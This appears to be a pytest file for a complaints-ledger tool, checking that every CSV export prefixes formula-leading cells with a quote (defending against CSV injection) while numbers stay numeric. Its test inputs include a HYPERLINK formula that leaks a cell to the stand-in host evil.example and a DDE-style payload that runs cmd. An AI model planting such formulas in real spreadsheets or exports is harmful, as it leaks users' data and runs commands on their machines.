"""Every CSV the ledger writes neutralises formula prefixes (the OWASP rule): a team
named ``=HYPERLINK(...)`` reaches a council officer's spreadsheet as text, while
numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pytest

from reports.csv_cells import safe_cell
from tests.cli.conftest import Complaints

TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
SERVICE_AREA = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- 1", "'- 1"),
        ("-A1", "'-A1"),
        ("Locality North", "Locality North"),
        ("a=b", "a=b"),
        # numbers stay numbers, so columns still sum
        (-3, -3),
        (Decimal("-12.50"), Decimal("-12.50")),
        ("-3", "-3"),
        ("-12.5%", "-12.5%"),
        ("+4%", "+4%"),
        ("-1,250.00", "-1,250.00"),
        ("-", "-"),  # the reports' "none"
        (None, None),
    ],
)
def test_formula_prefixes_are_quoted_and_numbers_are_not(value: Any, written: Any) -> None:
    assert safe_cell(value) == written


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_output_writes_a_formula_as_text(db_url: str) -> None:
    complaints = Complaints(db_url)
    complaints.ok(
        "receive",
        "--on",
        "2025-03-11",
        "--procedure",
        "statutory",
        "--team",
        TEAM,
        "--service-area",
        SERVICE_AREA,
    )
    outputs = {
        "list": complaints.ok("list", "--format", "csv"),
        "report open": complaints.ok("report", "open", "--on", "2025-04-30", "--format", "csv"),
        "report annual": complaints.ok("report", "annual", "--year", "2024", "--format", "csv"),
        "export rm_case": complaints.ok("export", "--format", "csv", "--table", "rm_case"),
        "teams": complaints.ok("teams", "--format", "csv"),
    }
    for name, text in outputs.items():
        cells = _cells(text)
        assert "'" + TEAM in cells, name
        assert not [c for c in cells if c.startswith(("=", "@"))], name
    assert "'" + SERVICE_AREA in _cells(outputs["report open"])
    # a negative number of working days left is still a number
    open_rows = list(csv.DictReader(io.StringIO(outputs["report open"])))
    assert int(open_rows[0]["working_days_left"]) < 0


def test_every_module_writing_csv_neutralises_its_cells() -> None:
    """A new CSV output cannot forget the rule unnoticed: every module that makes a CSV
    writer also passes its cells through reports.csv_cells."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [
        path
        for package in ("cli", "ledger", "reports", "projections")
        for path in sorted((root / package).rglob("*.py"))
        if "csv.writer(" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter(" in text
    ]
    assert writers  # the scan finds the writers it guards
    forgetful = [p.name for p in writers if not re.search(r"\bsafe_(cell|row)\(", p.read_text())]
    assert forgetful == []
